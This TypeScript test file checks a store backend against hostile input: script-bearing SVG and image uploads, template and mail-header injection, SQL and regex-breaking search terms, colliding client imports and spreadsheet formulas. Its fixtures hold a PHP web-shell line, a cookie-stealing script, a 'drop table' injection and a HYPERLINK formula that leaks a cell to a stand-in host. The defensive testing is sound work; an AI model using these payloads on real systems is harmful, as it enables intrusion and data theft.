// Hostile input on the desk: pictures that are programs or bombs, words of mails with code, synonyms with signs of query languages,
// imported clients with another client's CUIT or the e-mail of the staff, names that are formulas.

import { readFileSync } from 'node:fs';
import { join } from 'node:path';
import type { ImportKindName } from '@mostrador/contract/entries/imports';
import { callPath } from '@mostrador/contract/routes';
import { makeClient, makeProduct, makeUser } from '@mostrador/trials/testing/factories';
import { type TestShop, testShop } from '@mostrador/trials/testing/test-shop';
import sharp from 'sharp';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { importTasks } from '../imports/import-jobs.service.js';
import { importTask } from '../imports/import-task.js';
import { inviteNext } from '../invitations/waves.service.js';
import { withWords } from '../mail/mail-words.js';

let shop: TestShop;
let token: string;
let administrator: { readonly email: string };

beforeAll(async () => {
  shop = await testShop('papelera');
  administrator = await makeUser(shop.db, { profile: 3 });
  token = await shop.token(administrator.email);
});
afterAll(() => shop.close());

const plain = (width: number, height: number) =>
  sharp({ create: { width, height, channels: 3, background: '#357' } });

async function upload(payload: Buffer) {
  const response = await shop.app.http.inject({
    method: 'POST',
    url: `/api${callPath('addCompanyPicture', {})}`,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' },
    payload,
  });
  return { status: response.statusCode, body: response.json() };
}

describe('a picture of the company', () => {
  const SCRIPT = '<script>alert(document.cookie)</script>';

  it.each<[string, () => Buffer | Promise<Buffer>]>([
    [
      'an SVG',
      () => Buffer.from(`<svg xmlns="http://www.w3.org/2000/svg" width="9" height="9">${SCRIPT}</svg>`),
    ],
    [
      'an SVG behind a declaration',
      () => Buffer.from(`<?xml version="1.0"?>\n<!-- GIF89a -->\n<svg onload="x()"/>`),
    ],
    ['a page', () => Buffer.from(`<!doctype html>${SCRIPT}`)],
    ['a head alone', async () => (await plain(90, 90).png().toBuffer()).subarray(0, 40)],
    ['62 megapixels', () => plain(7_900, 7_900).png({ compressionLevel: 9 }).toBuffer()],
    ['a PDF', () => Buffer.from('%PDF-1.4\n1 0 obj<</Type/Catalog>>endobj')],
  ])('is not %s', async (_, made) => {
    const { status, body } = await upload(await made());
    expect([400, 413, 415]).toContain(status);
    expect(body).toMatchObject({ field: 'picture', message: expect.stringMatching(/\S/) });
  });

  it.each(['png', 'jpeg'] as const)('loses what was hidden in and behind a %s', async (format) => {
    const hidden = await plain(300, 60)
      .withExif({ IFD0: { ImageDescription: SCRIPT, Copyright: '<?php system($_GET[0]) ?>' } })
      .toFormat(format)
      .toBuffer();
    const { status, body } = await upload(Buffer.concat([hidden, Buffer.from(`\n${SCRIPT}<?php x() ?>`)]));
    expect(status).toBe(200);
    const stored = readFileSync(join(shop.dataDir, 'images', 'papelera', body.fileName), 'latin1');
    expect(stored).not.toMatch(/script|php/);
    const { headers } = await shop.app.http.inject({
      url: `/api/store/StoreProductsImages/proxy/${body.fileName}`,
    });
    expect(headers).toMatchObject({
      'content-type': expect.stringMatching(/^image\/(?!svg)/),
      'x-content-type-options': 'nosniff',
    });
  });
});

describe('the words of a mail', () => {
  const save = (to: object) =>
    shop
      .call('companySettings', {}, token)
      .then(({ values }) =>
        shop.raw(
          'saveCompanySettings',
          { body: { edits: [{ field: 'mailAccountReady', from: values['mailAccountReady'], to }] } },
          token,
        ),
      );
  const words = { subject: 'Hola', heading: 'Hola', intro: 'Hola' };

  it.each([
    ['what every object has', { intro: '{constructor} {cliente}' }],
    ['a prototype', { heading: '{__proto__}' }],
    ['a template', { intro: '{{cliente}}' }],
    ['an expression', { intro: '<%= x %> {1+1}' }],
  ])('do not have %s', async (_, wrong) => {
    const { status, body } = await save({ ...words, ...wrong });
    expect([status, body.field]).toEqual([400, 'mailAccountReady']);
  });

  it('put no line into the head of a mail', async () => {
    const { status, body } = await save({ ...words, subject: 'Hola\r\nBcc: todos@prueba.test' });
    expect(status).toBe(200);
    expect(body.values['mailAccountReady']).toMatchObject({ subject: 'Hola Bcc: todos@prueba.test' });
    await shop.call('undoAction', { params: { actionId: body.actionId ?? '' } }, token);
  });

  it('are filled once: a value in braces stays a value', () => {
    const head = { subject: '', heading: '', intro: '', preheader: '' };
    const given = { subject: '{cliente} de {empresa}', heading: '{cliente}', intro: '{cliente}' };
    const filled = withWords(head as never, given, { cliente: '{empresa} {total}', empresa: 'Papelera' });
    expect(filled).toMatchObject({ subject: '{empresa} {total} de Papelera', intro: '{empresa} {total}' });
  });
});

describe('synonyms', () => {
  it.each([
    'a & !b',
    'foo:*',
    "o'brien",
    '(a+)+$',
    'x | y',
    '\\',
    '<->',
    "'); drop table products; --",
    '%_%',
    '*',
  ])('with %s break no search', async (sign) => {
    const word = `palabra ${sign} rara`;
    await makeProduct(shop.db, { name: 'Cuaderno de tapas rígidas', price: '10.00' });
    const made = await shop.raw(
      'createSynonyms',
      { body: { words: [word, 'cuaderno'], oneWay: false } },
      token,
    );
    expect([200, 400, 409]).toContain(made.status);
    for (const searchTerm of [word, sign, 'cuaderno', 'palabra']) {
      expect((await shop.raw('products', { query: { searchTerm } })).status).toBe(200);
      expect((await shop.raw('searchPreview', { query: { searchTerm } }, token)).status).toBe(200);
    }
    expect(
      (await shop.call('products', { query: { searchTerm: 'cuaderno' } }, token)).totalCount,
    ).toBeGreaterThan(0);
    const [group] = (await shop.call('searchWords', { query: {} }, token)).groups;
    if (made.status === 200 && group !== undefined)
      await shop.raw('removeSynonyms', { params: { synonymGroupId: group.synonymGroupId }, body: {} }, token);
  });
});

async function imported(kind: ImportKindName, content: string) {
  const bytes = Buffer.from(content);
  const { importId } = await shop.call(
    'uploadImport',
    { body: { kind, fileName: 'archivo.csv', bytes: bytes.byteLength } },
    token,
  );
  await shop.app.http.inject({
    method: 'PUT',
    url: `/api/store/Admin/imports/${importId}/file?offset=0`,
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/octet-stream' },
    payload: bytes,
  });
  const params = { importId };
  const detail = () => shop.call('importDetail', { params }, token);
  const { options, columns } = await detail();
  const body = { options, columns: columns.map(({ field }) => field), compare: true };
  await shop.call('saveImportOptions', { params, body }, token);
  const work = async () => {
    const { signal } = new AbortController();
    const { tasks } = importTasks(shop.app.shop);
    const task = tasks[importTask(shop.app.shop.company().companyId)];
    await task?.({ importId }, { stopping: signal, signal, attempt: 1 });
  };
  await work();
  const apply = { excludedLines: [], deactivates: 0, confirmsShare: false, at: null };
  if ((await shop.raw('applyImport', { params, body: apply }, token)).status === 200) await work();
  return detail();
}

describe('imported clients', () => {
  const rowsOf = () => shop.db.selectFrom('clients').selectAll().orderBy('client_id').execute();

  it('do not take the CUIT of another client, nor its row under another code', async () => {
    const [victim, other] = [await makeClient(shop.db), await makeClient(shop.db)];
    const cuit = '30692729192';
    await shop.db
      .updateTable('clients')
      .set({ legal_id: cuit })
      .where('client_id', '=', victim.clientId)
      .execute();
    const before = await rowsOf();
    const own = before.find(({ client_id: id }) => id === other.clientId);
    const done = await imported(
      'clients',
      `codigo;razon social;cuit;email\n${own?.client_code};Otro;${cuit};otro@prueba.test\nNUEVO-1;Nuevo;${cuit};nuevo@prueba.test\n`,
    );
    expect(done.counts).toMatchObject({ created: 0, updated: 0, rejected: 2 });
    expect(await rowsOf()).toEqual(before);
  });

  it('with the e-mail of the staff get no account, and the staff keeps theirs', async () => {
    const done = await imported(
      'clients',
      `codigo;razon social;cuit;email\nPERS-1;Con mail ajeno;20-23082473-9;${administrator.email.toUpperCase()}\n`,
    );
    expect(done.counts).toMatchObject({ read: 1 });
    const users = () => shop.db.selectFrom('users').selectAll().orderBy('user_id').execute();
    const before = await users();
    const mails = await shop.db.selectFrom('mails').select('mail_id').execute();
    const wave = await shop.raw(
      'createInvitationWave',
      { body: { selection: { kind: 'withoutAccount' }, perHour: 20_000 } },
      token,
    );
    if (wave.status === 200) await inviteNext(shop.app.shop, wave.body.waveId);
    const after = await users();
    expect(after.filter(({ email }) => email.toLowerCase() === administrator.email.toLowerCase())).toEqual(
      before.filter(({ email }) => email === administrator.email),
    );
    const recipients = await shop.db.selectFrom('mails').select(['mail_id', 'recipient']).execute();
    expect(
      recipients
        .filter(({ mail_id: id }) => !mails.some((mail) => mail.mail_id === id))
        .map(({ recipient }) => recipient.toLowerCase()),
    ).not.toContain(administrator.email.toLowerCase());
  });

  it('whose names are formulas leave the house as texts', async () => {
    const FORMULA = '=HYPERLINK("https://malo.example?"&A1;"Ver")';
    await makeClient(shop.db, { legalName: FORMULA, email: '+cmd@prueba.test' });
    const { body, statusCode } = await shop.app.http.inject({
      url: '/api/store/Admin/exports/clients?format=csv',
      headers: { authorization: `Bearer ${token}` },
    });
    expect(statusCode).toBe(200);
    expect(body).toContain("'=HYPERLINK(");
    expect(body).not.toMatch(/(?:^|[;\n])"?=HYPERLINK/);
    expect(body).not.toMatch(/(?:^|[;\n])"?\+cmd/);
  });
});
